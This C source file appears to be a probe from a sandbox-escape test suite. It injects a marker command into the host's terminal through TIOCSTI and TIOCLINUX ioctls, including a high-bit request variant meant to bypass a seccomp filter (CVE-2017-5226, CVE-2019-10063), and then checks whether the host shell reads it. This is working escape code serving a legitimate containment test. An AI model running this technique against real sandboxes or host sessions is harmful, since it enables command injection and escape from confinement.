/*
 * tty: out by the terminal that jexec leaves its command: what a process
 * pushes back into it is read by the host's shell afterwards
 * (CVE-2017-5226; its filter passed by in CVE-2019-10063).
 *
 *	tty on COMMAND...	(outside) run COMMAND on a terminal, then see
 *				whether anything lies there to be read
 *	tty push		push a line, in every way there is
 */
#include "escape.h"

#include <fcntl.h>
#include <stdbool.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#define TIOCL_PASTESEL 3

static void push(void)
{
	/* the kernel looks at 32 bits of the request, a filter perhaps at 64 */
	static const unsigned long request[] = {TIOCSTI, TIOCSTI | 1UL << 32};
	static const char line[] = "id >&2\n";
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	const int fds[] = {0, 1, 2, tty};
	char paste = TIOCL_PASTESEL;

	for (size_t f = 0; f < 4; f++) {
		for (size_t r = 0; r < 2; r++)
			for (const char *c = line; *c; c++)
				syscall(SYS_ioctl, fds[f], request[r], c);
		ioctl(fds[f], TIOCLINUX, &paste);
	}
	dprintf(2, "pushed: %s\n", strerror(errno));
	exit(0);
}

/* The host's shell: leads the session, runs the command, reads its terminal. */
static void shell(const char *name, char **argv)
{
	char text[64] = "";
	int tty, status;
	pid_t pid;

	setsid();
	tty = open(name, O_RDWR);
	if (tty < 0 || ioctl(tty, TIOCSCTTY, 0) < 0)
		broken("%s: %s", name, strerror(errno));
	pid = fork();
	if (!pid) {
		dup2(tty, 0);
		dup2(tty, 1);
		execvp(argv[0], argv);
		_exit(127);
	}
	if (waitpid(pid, &status, 0) < 0 || status)
		broken("%s ended with %d", argv[0], status);
	fcntl(tty, F_SETFL, O_NONBLOCK);
	if (read(tty, text, sizeof(text) - 1) <= 0)
		held("nothing to read on the terminal");
	text[strcspn(text, "\n")] = '\0';
	escaped("the host's shell reads: %s", text);
}

static void on(char **argv)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), status;
	char name[64];
	pid_t pid;

	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 ||
	    ptsname_r(master, name, sizeof(name)))
		broken("no terminal: %s", strerror(errno));
	pid = fork();
	if (!pid)
		shell(name, argv);
	if (waitpid(pid, &status, 0) < 0 || !WIFEXITED(status))
		broken("the session ended by a signal");
	exit(WEXITSTATUS(status));
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "on"))
		on(argv + 2);
	if (argc == 2 && !strcmp(argv[1], "push"))
		push();
	broken("usage: see the head of tty.c");
}
